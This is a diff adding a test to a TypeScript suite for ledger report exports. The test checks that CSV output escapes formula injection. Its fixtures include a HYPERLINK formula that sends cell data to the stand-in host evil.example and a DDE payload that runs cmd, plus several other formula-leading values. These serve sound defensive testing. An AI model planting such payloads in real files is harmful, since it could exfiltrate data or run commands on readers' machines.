@@ -84,4 +84,68 @@ describe('report queries over the ledger', () => {
       expect([refused.statusCode, refused.json().data.code]).toEqual([403, 'ROLE_REQUIRED']);
     }
   });
+
+  it('writes a buyer, a lot title and a reference that a spreadsheet would run as text, and money as numbers', async () => {
+    const record = eventRecorder('2026-11-01T00:00:00.000Z');
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"Refund")';
+    const calc = "=cmd|' /C calc'!A0";
+    const events = [
+      record('user-eve', 'UserRegistered', { ...registered('eve'), firstName: hyperlink, lastName: '' }),
+      record('user-fin', 'UserRegistered', registered('fin')),
+      record('user-fin', 'RoleGranted', { role: 'finance' }),
+      record(
+        'invoice-x1',
+        'InvoiceIssued',
+        invoiceIssued({
+          invoiceId: 'x1',
+          buyerId: 'eve',
+          lines: [
+            {
+              lotId: 'l-x',
+              title: calc,
+              sellerId: 'house',
+              qty: 1,
+              unitPrice: 50_000,
+              amount: 50_000,
+              reservationId: null,
+            },
+          ],
+        }),
+      ),
+      record('invoice-x1', 'PaymentRecorded', {
+        ...paymentRecorded('px', 66_150, 'offline'),
+        reference: '@SUM(A1:A9)',
+      }),
+      record('invoice-x1', 'PaymentRefunded', {
+        refundId: 'rx',
+        paymentId: 'px',
+        amount: 1_205,
+        to: 'wallet',
+        reason: '+1+1',
+        // A return's refund leaves the invoice paid, so the lot is in "Vendor sold" too.
+        returnId: 'r-x',
+      }),
+    ];
+    const docs = await applyEvents([usersProjection, ledgerProjection], events, undefined, 200);
+    const { app, post, signIn } = await queryApp(reportQueries, docs, clock);
+    const fin = await signIn('fin');
+    const range = { from: '2026-11-01', to: '2026-12-31' };
+    const csvOf = async (report: string) => {
+      const body = { report, ...range };
+      const text = (await post(actions.exportReport.path, body, fin)).json().data.responseData
+        .records as string;
+      const streamed = await app.inject({ method: 'POST', url: reportCsvPath, payload: body, headers: fin });
+      expect(streamed.body).toBe(text);
+      return parse(text, { bom: true, columns: true }) as Record<string, string>[];
+    };
+    const [order] = await csvOf('getCustomerOrders');
+    expect(order).toMatchObject({ buyer: `'${hyperlink}`, total_usd: '661.50' });
+    const [sold] = await csvOf('getVendorSold');
+    expect(sold).toMatchObject({ title: `'${calc}` });
+    const payments = await csvOf('getPayments');
+    expect(payments.map((p) => [p.reference, p.amount_usd])).toEqual([
+      ["'@SUM(A1:A9)", '661.50'],
+      ["'+1+1", '-12.05'],
+    ]);
+  });
 });
